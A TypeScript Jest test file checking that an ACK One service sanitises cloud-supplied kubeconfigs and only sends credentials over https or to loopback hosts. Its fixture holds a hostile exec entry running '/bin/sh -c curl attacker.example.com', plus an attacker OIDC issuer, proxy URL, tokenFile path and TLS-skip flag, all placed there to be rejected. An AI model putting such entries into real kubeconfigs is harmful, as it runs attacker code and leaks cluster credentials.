import { DefaultAckOneService } from './DefaultAckOneService';
import { parseKubeconfig } from './kubeconfig';
import { isLoopbackHost } from './loopback';
import type { AckOneKubeconfig } from './types';

const CA = Buffer.from('CA PEM').toString('base64');

/** A kubeconfig as a compromised or misconfigured cloud could return it. */
function hostileKubeconfig(
  opts: { server?: string; user?: string[] } = {},
): string {
  const user = opts.user ?? [
    '    token: the-token',
    '    tokenFile: /var/run/secrets/other-token',
    '    exec:',
    '      apiVersion: client.authentication.k8s.io/v1beta1',
    '      command: /bin/sh',
    '      args: ["-c", "curl attacker.example.com"]',
    '    auth-provider:',
    '      name: oidc',
    '      config: {idp-issuer-url: "https://attacker.example.com"}',
  ];
  return [
    'apiVersion: v1',
    'kind: Config',
    'clusters:',
    '- name: c',
    '  cluster:',
    `    server: ${opts.server ?? 'https://10.0.0.5:6443'}`,
    `    certificate-authority-data: ${CA}`,
    '    insecure-skip-tls-verify: true',
    '    proxy-url: http://proxy.attacker.example.com:3128',
    'users:',
    '- name: u',
    '  user:',
    ...user,
    'contexts:',
    '- name: x',
    '  context: {cluster: c, user: u}',
    'current-context: x',
  ].join('\n');
}

function kubeconfig(config: string): AckOneKubeconfig {
  return { config, connection: parseKubeconfig(config), clusterId: 'c123' };
}

const service = new DefaultAckOneService({ accounts: [] });

describe('toKubeConfig', () => {
  it('uses only the server, CA and token of a cloud kubeconfig', async () => {
    const kc = await service.toKubeConfig(kubeconfig(hostileKubeconfig()));
    const user = kc.getCurrentUser()!;
    expect(user.exec).toBeUndefined();
    expect(user.authProvider).toBeUndefined();
    expect(user.token).toBe('the-token');
    expect(user).not.toHaveProperty('tokenFile');
    const cluster = kc.getCurrentCluster()!;
    expect(cluster.skipTLSVerify).toBe(false);
    expect(cluster.proxyUrl).toBeUndefined();
    expect(cluster.server).toBe('https://10.0.0.5:6443');
    expect(cluster.caData).toBe(CA);
    expect(kc.getClusters()).toHaveLength(1);
    expect(kc.getUsers()).toHaveLength(1);
  });

  it('uses a client certificate and key when there is no token', async () => {
    const kc = await service.toKubeConfig(
      kubeconfig(
        hostileKubeconfig({
          user: [
            '    client-certificate-data: Q0VSVA==',
            '    client-key-data: S0VZ',
            '    exec: {command: /bin/sh}',
          ],
        }),
      ),
    );
    expect(kc.getCurrentUser()).toEqual({
      name: 'ack-one',
      certData: 'Q0VSVA==',
      keyData: 'S0VZ',
    });
  });

  it('refuses a kubeconfig that only authenticates through exec or auth-provider', async () => {
    await expect(
      service.toKubeConfig(
        kubeconfig(
          hostileKubeconfig({
            user: ['    exec: {command: /bin/sh}', '    client-key-data: S0VZ'],
          }),
        ),
      ),
    ).rejects.toThrow(
      /kubeconfig of cluster c123 has neither a bearer token nor a client certificate and key/,
    );
  });

  it('refuses plain http to a non-loopback API server, naming the cluster', async () => {
    await expect(
      service.toKubeConfig(
        kubeconfig(hostileKubeconfig({ server: 'http://10.0.0.5:6443' })),
      ),
    ).rejects.toThrow(
      'the API server of cluster c123 is http://10.0.0.5:6443: credentials are only sent over https (plain http only to a loopback address)',
    );
    await expect(
      service.toKubeConfig(
        kubeconfig(hostileKubeconfig({ server: 'ftp://10.0.0.5' })),
      ),
    ).rejects.toThrow(/cluster c123 is ftp:/);
  });

  it('accepts plain http to a loopback API server', async () => {
    for (const server of [
      'http://127.0.0.1:8080',
      'http://localhost:8080',
      'http://[::1]:8080',
    ]) {
      const kc = await service.toKubeConfig(
        kubeconfig(hostileKubeconfig({ server })),
      );
      expect(kc.getCurrentCluster()?.server).toBe(server);
    }
  });

  it('no longer reports insecure-skip-tls-verify from parseKubeconfig', () => {
    expect(parseKubeconfig(hostileKubeconfig())).toEqual({
      server: 'https://10.0.0.5:6443',
      caData: CA,
      token: 'the-token',
    });
  });
});

describe('isLoopbackHost', () => {
  it.each([
    ['127.0.0.1', true],
    ['127.8.9.10', true],
    ['localhost', true],
    ['[::1]', true],
    ['::1', true],
    ['[::ffff:7f00:1]', true],
    ['128.0.0.1', false],
    ['10.0.0.1', false],
    ['localhost.attacker.example.com', false],
    ['[::2]', false],
    ['example.com', false],
  ])('%s → %s', (host, expected) => {
    expect(isLoopbackHost(host)).toBe(expected);
  });
});
